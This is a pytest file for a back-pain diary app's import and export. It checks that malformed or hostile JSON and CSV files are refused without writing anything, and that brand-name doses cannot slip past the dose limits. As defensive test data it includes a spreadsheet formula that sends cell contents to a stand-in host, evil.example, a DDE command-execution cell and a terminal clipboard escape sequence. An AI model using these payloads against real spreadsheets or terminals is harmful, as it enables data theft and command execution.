"""Hostile and impossible import files: refused in words, naming the place, writing nothing.

Every example of the review that found the holes is a case here: a dose guard
bypassed through brand names, 3,000-deep JSON, ``mg`` of 2**63, ``version: true``,
a resolution before the onset, check-ins in 2099, derived answers, empty or NaN
assessments, times at the ends of the calendar, a CSV cut short, formula cells.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import jsonschema_rs
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from backcare.diary import CheckInEntry, Diary, DoseEntry
from backcare.errors import DoseLimitError, ImportFormatError, StoreError
from backcare.export.transfer import (
    CSV_COLUMNS,
    SCHEMA_FILE,
    dump,
    export_diary,
    import_diary,
    json_schema,
    parse,
    published_schema,
    schema_text,
)
from backcare.store import Store, open_store
from store_fixtures import (  # noqa: F401  (fixtures)
    START,
    FakeClock,
    clock,
    diary,
    sqlite_store,
    sqlite_url,
    store,
    store_url,
)

NOW = START + timedelta(days=2)
EMPTY = {"format": "backcare-diary", "version": 1, "episodes": []}
ROOT = Path(__file__).resolve().parent.parent


def _at(hours: float) -> str:
    """A time ``hours`` after the start of the test episode, as the export writes it."""
    return (START + timedelta(hours=hours)).isoformat().replace("+00:00", "Z")


def _dose(drug: str = "ibuprofen", mg: int = 200, hours: float = 2, **extra: Any) -> dict[str, Any]:
    return {"drug": drug, "mg": mg, "taken_at": _at(hours)} | extra


def _checkin(hours: float = 3, **extra: Any) -> dict[str, Any]:
    return {
        "recorded_at": _at(hours),
        "pain": 5,
        "days_of_self_care": 0,
        "triage_level": "self_care",
    } | extra


def _episode(**extra: Any) -> dict[str, Any]:
    return {
        "uid": "a" * 32,
        "onset_at": _at(0),
        "started_at": _at(1),
        "status": "active",
        "answers": {"pain": 5},
        "assessment": {"triage": {"level": "self_care"}},
    } | extra


def _document(*episodes: dict[str, Any], **extra: Any) -> str:
    return json.dumps(EMPTY | {"episodes": list(episodes)} | extra)


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _refused(target: Store, text: str, *, message: str, field: str) -> ImportFormatError:
    before = export_diary(target)
    with pytest.raises(ImportFormatError, match=message) as caught:
        import_diary(target, text, now=NOW)
    assert caught.value.exit_code == 2
    fields = [p.field for p in caught.value.problems]
    assert any(field in f for f in fields), fields
    assert export_diary(target) == before
    return caught.value


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


HOSTILE = [
    pytest.param(_document(version=True), "version", "version", id="version-true"),
    pytest.param(_document(version=1.0), "version", "version", id="version-float"),
    pytest.param("format,backcare-diary,version,01\r\n", "version", "version", id="csv-version-01"),
    pytest.param(
        "format,backcare-diary,version,+1\r\n", "version", "version", id="csv-version-plus-1"
    ),
    pytest.param(
        _document(_episode(status="resolved", resolved_at=_at(-5))),
        "impossible times",
        "episodes.0.resolved_at",
        id="resolved-before-onset",
    ),
    pytest.param(
        _document(_episode(checkins=[_checkin(recorded_at="2099-01-01T00:00:00Z")])),
        "impossible times",
        "episodes.0.checkins.0.recorded_at",
        id="checkin-in-2099",
    ),
    pytest.param(
        _document(_episode(checkins=[_checkin(-2)])),
        "impossible times",
        "episodes.0.checkins.0.recorded_at",
        id="checkin-before-onset",
    ),
    pytest.param(
        _document(_episode(onset_at="0001-01-01T00:00:00Z")),
        "impossible times",
        "episodes.0.onset_at",
        id="onset-in-year-1",
    ),
    pytest.param(
        _document(_episode(doses=[_dose(taken_at="0001-01-01T00:00:00+01:00")])),
        "impossible times",
        "episodes.0.doses.0.taken_at",
        id="dose-at-year-1-overflowing",
    ),
    pytest.param(
        _document(_episode(checkins=[_checkin(recorded_at="9999-12-31T23:59:59-14:00")])),
        "impossible times",
        "episodes.0.checkins.0.recorded_at",
        id="checkin-at-9999-overflowing",
    ),
    pytest.param(
        _document(_episode(checkins=[_checkin(answers_update={"pain": 2})])),
        "inconsistent",
        "episodes.0.checkins.0.answers_update.pain",
        id="derived-pain",
    ),
    pytest.param(
        _document(_episode(checkins=[_checkin(answers_update={"hours_since_onset": 3})])),
        "inconsistent",
        "episodes.0.checkins.0.answers_update.hours_since_onset",
        id="derived-hours-since-onset",
    ),
    pytest.param(
        _document(_episode(assessment={})), "invalid content", "assessment", id="empty-assessment"
    ),
    pytest.param(
        _document(_episode(assessment={"score": 1})),
        "inconsistent",
        "episodes.0.assessment.triage.level",
        id="assessment-without-level",
    ),
    pytest.param(
        _document(_episode(assessment={"triage": {"level": ["emergency"]}})),
        "inconsistent",
        "episodes.0.assessment.triage.level",
        id="assessment-level-a-list",
    ),
    pytest.param(
        _document(_episode()).replace('"pain": 5', '"pain": NaN'),
        "value JSON import refuses",
        "",
        id="nan",
    ),
    pytest.param(
        _document(_episode(doses=[_dose(mg=2**63)])),
        "invalid content",
        "episodes.0.doses.0.mg",
        id="mg-2-to-the-63",
    ),
    pytest.param(_document(_episode(doses=[_dose(mg=0)])), "invalid content", "mg", id="mg-zero"),
    pytest.param(
        _document(_episode()).replace('"pain": 5', '"pain": ' + "9" * 5000),
        "value JSON import refuses",
        "",
        id="integer-of-5000-digits",
    ),
    pytest.param(
        '{"format": "backcare-diary", "version": 1, "x": ' + _nested(3000) + "}",
        "nested too deeply",
        "",
        id="json-3000-deep",
    ),
    pytest.param(
        '{"format": "backcare-diary", "version": 1, "x": ' + _nested(40) + "}",
        "nested too deeply",
        "",
        id="json-40-deep",
    ),
    pytest.param(
        _document(_episode(doses=[_dose("aspirin")])),
        "unknown medicines",
        "episodes.0.doses.0.drug",
        id="unknown-medicine",
    ),
    pytest.param(
        _document(_episode(doses=[_dose("diazepam")])),
        "unknown medicines",
        "episodes.0.doses.0.drug",
        id="prescription-only-medicine",
    ),
    pytest.param(
        _document(_episode(checkins=[_checkin(note="hi \x1b]52;c;ZXZpbA==\x07")])),
        "inconsistent",
        "episodes.0.checkins.0.note",
        id="escape-in-note",
    ),
]


@pytest.mark.parametrize(("text", "message", "field"), HOSTILE)
def test_hostile_import_is_refused_naming_the_place_and_writes_nothing(
    sqlite_store: Store,  # noqa: F811
    text: str,
    message: str,
    field: str,
) -> None:
    _refused(sqlite_store, text, message=message, field=field)


# --- doses ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "medicine"),
    [
        pytest.param("Nurofen", "ibuprofen", id="nurofen"),
        pytest.param("ADVIL", "ibuprofen", id="advil-upper"),
        pytest.param("motrin", "ibuprofen", id="motrin-lower"),
        pytest.param("IBUPROFEN", "ibuprofen", id="ibuprofen-upper"),
        pytest.param("Tylenol", "paracetamol", id="tylenol"),
        pytest.param("panadol", "paracetamol", id="panadol"),
        pytest.param("Acetaminophen", "paracetamol", id="acetaminophen"),
        pytest.param("Aleve", "naproxen", id="aleve"),
    ],
)
def test_brand_names_are_stored_as_the_medicine_they_are(
    sqlite_store: Store,  # noqa: F811
    name: str,
    medicine: str,
) -> None:
    import_diary(sqlite_store, _document(_episode(doses=[_dose(name, 200)])), now=NOW)
    [episode] = json.loads(export_diary(sqlite_store))["episodes"]
    assert episode["doses"][0]["drug"] == medicine


def test_brand_and_case_variants_count_as_one_medicine_against_the_daily_limit(
    store: Store,  # noqa: F811
) -> None:
    names = ("Nurofen", "IBUPROFEN", "advil", "Motrin")
    doses = [_dose(name, 400, 2 + 5 * i) for i, name in enumerate(names)]
    error = _refused(
        store,
        _document(_episode(doses=doses)),
        message="safety limit",
        field="episodes.0.doses.3",
    )
    assert "daily_maximum" in str(error)


def test_a_dose_over_a_limit_imports_only_with_its_recorded_override(
    store: Store,  # noqa: F811
) -> None:
    big = _dose("Nurofen", 1200, 2)
    _refused(
        store,
        _document(_episode(doses=[big])),
        message="safety limit",
        field="episodes.0.doses.0",
    )
    overridden = big | {"overridden": True, "override_reason": "single_dose: more than 400 mg"}
    assert import_diary(store, _document(_episode(doses=[overridden])), now=NOW).doses == 1


def test_imported_doses_count_against_the_diary_s_own_and_the_other_way_round(
    diary: Diary,  # noqa: F811
    clock: FakeClock,  # noqa: F811
) -> None:
    clock.current = NOW
    diary.start_episode(onset=START, answers={"pain": 6, "age": 40, "conditions": []})
    diary.check_in(CheckInEntry(pain=5, doses=(DoseEntry("ibuprofen", 400, START),)))
    resolved = _episode(
        uid="b" * 32,
        onset_at=_at(-30),
        started_at=_at(-29),
        status="resolved",
        resolved_at=_at(-1),
        doses=[_dose("Nurofen", 400, -3)],
    )
    _refused(diary.store, _document(resolved), message="safety limit", field="episodes.0.doses.0")
    overridden = _dose("Nurofen", 800, -9, overridden=True, override_reason="single_dose")
    import_diary(diary.store, _document(resolved | {"doses": [overridden]}), now=NOW)
    with pytest.raises(DoseLimitError, match="daily_maximum"):
        diary.check_in(
            CheckInEntry(pain=5, doses=(DoseEntry("ibuprofen", 400, _time(14)),)),
            refuse_over_limit=True,
        )


def test_a_dose_the_person_should_avoid_imports_only_with_its_override(
    sqlite_store: Store,  # noqa: F811
) -> None:
    pregnant = {"pain": 5, "conditions": ["pregnant"]}
    dose = _dose("Nurofen", 200, 2)
    error = _refused(
        sqlite_store,
        _document(_episode(answers=pregnant, doses=[dose])),
        message="safety limit",
        field="episodes.0.doses.0",
    )
    assert "avoid" in str(error)
    assert "pregnant" in str(error)
    overridden = dose | {"overridden": True, "override_reason": "avoid: pregnant"}
    imported = _document(_episode(answers=pregnant, doses=[overridden]))
    assert import_diary(sqlite_store, imported, now=NOW).doses == 1


def test_an_import_checks_each_dose_with_the_answers_known_at_its_time(
    sqlite_store: Store,  # noqa: F811
) -> None:
    # Pregnancy reported at the 5 h check-in: ibuprofen before it was fine, after it is not.
    told = _checkin(5, answers_update={"conditions": ["pregnant"]})
    episode = _episode(
        answers={"pain": 5, "conditions": []}, checkins=[told], doses=[_dose(hours=2)]
    )
    assert import_diary(sqlite_store, _document(episode), now=NOW).doses == 1
    later = episode | {"uid": "b" * 32, "status": "resolved", "resolved_at": _at(20)}
    later["doses"] = [_dose(hours=12)]
    _refused(sqlite_store, _document(later), message="safety limit", field="episodes.0.doses.0")


def _time(hours: float) -> datetime:
    return START + timedelta(hours=hours)


def test_a_diary_holding_brand_names_still_counts_them_at_a_check_in(
    diary: Diary,  # noqa: F811
    clock: FakeClock,  # noqa: F811
) -> None:
    # Diaries written before imports were checked may hold "Nurofen" as it was typed.
    clock.current = NOW
    diary.start_episode(onset=START, answers={"pain": 6, "conditions": []})
    with diary.store.write() as repo:
        episode = repo.active_episode()
        assert episode is not None
        repo.session.execute(
            sa.text(
                "INSERT INTO medicine_doses (episode_id, drug, mg, taken_at, overridden) "
                "VALUES (:e, 'NUROFEN', 1200, :t, false)"
            ),
            {"e": episode.id, "t": _time(30)},
        )
    with pytest.raises(DoseLimitError, match="daily_maximum"):
        diary.check_in(
            CheckInEntry(pain=5, doses=(DoseEntry("ibuprofen", 200),)), refuse_over_limit=True
        )


# --- the review's example, through real processes ----------------------------------------


def _backcare(*args: str, db: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "backcare.cli", *args, "--db", db],
        input=stdin,
        capture_output=True,
        text=True,
        env=os.environ | {"COLUMNS": "200"},
        timeout=120,
        check=False,
    )


def _recent_file(tmp_path: Path, *, overridden: bool) -> Path:
    now = datetime.now(UTC).replace(microsecond=0)

    def stamp(delta: timedelta) -> str:
        return (now - delta).isoformat().replace("+00:00", "Z")

    extra = {"overridden": True, "override_reason": "single_dose"} if overridden else {}
    episode = _episode(
        onset_at=stamp(timedelta(hours=5)),
        started_at=stamp(timedelta(hours=5)),
        doses=[
            {"drug": "Nurofen", "mg": 1200, "taken_at": stamp(timedelta(hours=1))} | extra,
            {"drug": "IBUPROFEN", "mg": 1200, "taken_at": stamp(timedelta(hours=1))} | extra,
        ],
    )
    path = tmp_path / "diary.json"
    path.write_text(_document(episode))
    return path


@pytest.mark.slow
def test_brand_name_doses_cannot_slip_past_the_24_hour_guard(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'diary.sqlite3'}"
    refused = _backcare("import", str(_recent_file(tmp_path, overridden=False)), db=db)
    assert refused.returncode == 2, refused.stderr
    assert "episodes.0.doses.0" in refused.stderr
    assert "Traceback" not in refused.stderr
    accepted = _backcare("import", str(_recent_file(tmp_path, overridden=True)), db=db)
    assert accepted.returncode == 0, accepted.stderr
    # The dose was taken: it is recorded, flagged over the 24-hour limit the imports fill.
    checkin = _backcare("checkin", "--pain", "4", "--med", "ibuprofen:400", db=db)
    assert checkin.returncode == 0, checkin.stdout + checkin.stderr
    assert "recorded as over your limit" in checkin.stdout
    assert "leave at least 4 hours between doses" in checkin.stdout
    history = json.loads(_backcare("history", "--json", db=db).stdout)
    assert {d["drug"] for d in history["doses"]} == {"ibuprofen"}
    [checkin_record] = history["checkins"]
    assert checkin_record["doses"][0]["overridden"] is True
    assert "daily_maximum" in checkin_record["doses"][0]["override_reason"]


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        pytest.param('{"format": "backcare-diary", "x": ' + _nested(3000) + "}", id="3000-deep"),
        pytest.param(_document(_episode(doses=[_dose(mg=2**63)])), id="mg-2-to-the-63"),
        pytest.param(_document(_episode(onset_at="0001-01-01T00:00:00+01:00")), id="year-1"),
    ],
)
def test_hostile_import_through_the_cli_exits_2_without_a_traceback(
    tmp_path: Path, text: str
) -> None:
    db = f"sqlite:///{tmp_path / 'diary.sqlite3'}"
    result = _backcare("import", "-", db=db, stdin=text)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith("backcare:") or "error" in result.stderr.lower()


# --- NaN never reaches an export -----------------------------------------------------------


def test_an_export_never_writes_a_bare_nan(sqlite_store: Store) -> None:  # noqa: F811
    import_diary(sqlite_store, _document(_episode()), now=NOW)
    with sqlite_store.write() as repo:  # as an older backcare could have stored it
        repo.session.execute(
            sa.text("UPDATE episodes SET assessment = :a"),
            {"a": '{"triage": {"level": "self_care"}, "score": NaN}'},
        )
    with pytest.raises(StoreError, match="NaN"):
        export_diary(sqlite_store)


# --- the published JSON Schema ---------------------------------------------------------------


def test_the_published_schema_is_generated_from_the_models() -> None:
    generated = schema_text()
    assert published_schema() == generated, f"regenerate {SCHEMA_FILE}: make docs"
    assert (ROOT / "docs" / SCHEMA_FILE).read_text(encoding="utf-8") == generated


def test_the_schema_accepts_real_exports_and_refuses_impossible_documents(
    diary: Diary,  # noqa: F811
    clock: FakeClock,  # noqa: F811
) -> None:
    validator = jsonschema_rs.validator_for(json_schema())
    diary.start_episode(onset=START, answers={"pain": 6, "age": 40, "conditions": []})
    clock.advance(hours=3)
    diary.check_in(CheckInEntry(pain=5, doses=(DoseEntry("paracetamol", 500),), note="ok"))
    assert validator.is_valid(json.loads(export_diary(diary.store)))
    for bad in (
        EMPTY | {"version": True},
        EMPTY | {"version": 1.5},
        EMPTY | {"episodes": [_episode(assessment={})]},
        EMPTY | {"episodes": [_episode(doses=[_dose(mg=2**63)])]},
        EMPTY | {"episodes": [_episode(checkins=[_checkin(days_of_self_care=2**40)])]},
    ):
        assert not validator.is_valid(bad), bad


# --- CSV: formulas and truncation --------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize(
    "note",
    [
        pytest.param(FORMULA, id="equals"),
        pytest.param("+1+1", id="plus"),
        pytest.param("-2+3", id="minus"),
        pytest.param("@SUM(A1:A9)", id="at"),
        pytest.param("\t=1", id="tab"),
        pytest.param("'=1", id="quote-then-equals"),
        pytest.param("'", id="quote"),
        pytest.param("fine = ok", id="equals-inside"),
    ],
)
def test_formula_cells_are_neutralised_in_csv_and_restored_on_import(note: str) -> None:
    document = parse(_document(_episode(checkins=[_checkin(note=note)])), now=NOW)
    text = dump(document, fmt="csv")
    cells = [row.split(",") for row in text.split("\r\n")]
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells for cell in row
    )
    assert parse(text, now=NOW).episodes[0].checkins[0].note == note


def _csv() -> list[str]:
    checkins = [_checkin(3 + i, activities=[{"name": "socks", "score": i}]) for i in range(5)]
    text = dump(parse(_document(_episode(checkins=checkins)), now=NOW), fmt="csv")
    assert text.endswith("\r\nend,11\r\n")
    return text.split("\r\n")


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        pytest.param(lambda rows: rows[:-2], "end row is missing", id="end-row-cut"),
        pytest.param(lambda rows: rows[:7], "end row is missing", id="cut-at-a-line"),
        pytest.param(lambda rows: [*rows[:4], *rows[5:]], "does not match", id="rows-lost"),
        pytest.param(lambda rows: [*rows[:-1], "end,11", ""], "after its end row", id="two-ends"),
    ],
)
def test_a_csv_cut_short_is_refused(
    sqlite_store: Store,  # noqa: F811
    lines: Any,
    message: str,
) -> None:
    text = "\r\n".join(lines(_csv()))
    with pytest.raises(ImportFormatError, match=message):
        import_diary(sqlite_store, text, now=NOW)
    assert export_diary(sqlite_store) == dump(parse(json.dumps(EMPTY)))


@pytest.mark.parametrize("tail", ["", "\n", "\r\n\r\n"], ids=["as-written", "lf", "crlf-crlf"])
def test_the_whole_csv_imports(sqlite_store: Store, tail: str) -> None:  # noqa: F811
    assert import_diary(sqlite_store, "\r\n".join(_csv()) + tail, now=NOW).checkins == 5


def test_imports_into_a_fresh_database_from_a_file_on_disk(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text("\r\n".join(_csv()), encoding="utf-8", newline="")
    with open_store(f"sqlite:///{tmp_path / 'diary.sqlite3'}") as opened:
        result = import_diary(opened, path.read_text(encoding="utf-8"), now=NOW)
    assert (result.episodes, result.checkins) == (1, 5)


# --- invariants over hostile documents ------------------------------------------------------


#: Values an attacker tries in any field: wrong types, huge and negative numbers, calendar
#: ends, deep nesting, control characters, formula text.
hostile_values = st.one_of(
    st.none(),
    st.booleans(),
    st.sampled_from([0, -1, 1.0, 2**63, -(2**63), 10**30, 1e308]),
    st.sampled_from(
        [
            "",
            "0001-01-01T00:00:00Z",
            "9999-12-31T23:59:59-14:00",
            "2099-01-01T00:00:00Z",
            "2026-03-02T08:00:00",
            "Nurofen",
            "=cmd|' /C calc'!A0",
            "\x1b]52;c;ZXZpbA==\x07",
            "a" * 30_000,
        ]
    ),
    st.text(max_size=10),
    st.recursive(st.integers(0, 3), lambda inner: st.lists(inner, max_size=2), max_leaves=4).map(
        lambda value: [[[[[[value]]]]]]
    ),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)

VALID_EPISODE = _episode(
    status="resolved",
    resolved_at=_at(20),
    summary="fine",
    checkins=[_checkin(3, note="ok", doses=[_dose("paracetamol", 500, 2.5)])],
    doses=[_dose("ibuprofen", 200, 10)],
)


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    paths = [prefix]
    if isinstance(value, dict):
        for key, child in value.items():
            paths += _paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            paths += _paths(child, (*prefix, index))
    return paths


EPISODE_PATHS = [p for p in _paths(VALID_EPISODE) if p]


def _replaced(data: Any, path: tuple[Any, ...], value: Any) -> Any:
    """``data`` with the value at ``path`` replaced (unchanged if an earlier edit removed it)."""
    if not path:
        return value
    head = path[0]
    if isinstance(data, dict) and head in data:
        return data | {head: _replaced(data[head], path[1:], value)}
    if isinstance(data, list) and isinstance(head, int) and head < len(data):
        return [*data[:head], _replaced(data[head], path[1:], value), *data[head + 1 :]]
    return data


def _import(text: str) -> tuple[Store, ImportFormatError | None]:
    target = open_store("sqlite://")
    try:
        import_diary(target, text, now=NOW)
    except ImportFormatError as exc:
        return target, exc
    return target, None


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    edits=st.lists(
        st.tuples(st.sampled_from(EPISODE_PATHS), hostile_values), min_size=1, max_size=3
    ),
    fmt=st.sampled_from(["json", "csv"]),
)
def test_any_hostile_edit_is_imported_whole_or_refused_in_words_with_nothing_written(
    edits: list[tuple[tuple[Any, ...], Any]], fmt: str
) -> None:
    episode: Any = VALID_EPISODE
    for path, value in edits:
        episode = _replaced(episode, path, value)
    text = json.dumps(EMPTY | {"episodes": [episode]})
    if fmt == "csv":
        try:
            text = dump(parse(text, now=NOW), fmt="csv")
        except ImportFormatError:
            return  # refused already as JSON: nothing to turn into CSV
    target, error = _import(text)
    with target:
        exported = export_diary(target)
    if error is not None:
        assert error.problems, error
        assert all(p.field or p.problem for p in error.problems)
        assert json.loads(exported)["episodes"] == []
    else:
        assert "NaN" not in exported
        [episode] = parse(exported, now=NOW).episodes
        assert episode.uid == "a" * 32


@settings(max_examples=200, deadline=None)
@given(
    note=st.text(
        alphabet=st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from("\n\t"),
        min_size=1,
        max_size=30,
    ).filter(lambda text: text.strip() == text and text.strip())
)
def test_any_note_survives_the_csv_round_trip_and_never_starts_a_formula(note: str) -> None:
    document = parse(_document(_episode(checkins=[_checkin(note=note)])), now=NOW)
    text = dump(document, fmt="csv")
    [row] = [r for r in csv_rows(text) if r[0] == "checkin"]
    cell = row[CSV_COLUMNS.index("note")]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert parse(text, now=NOW).episodes[0].checkins[0].note == note
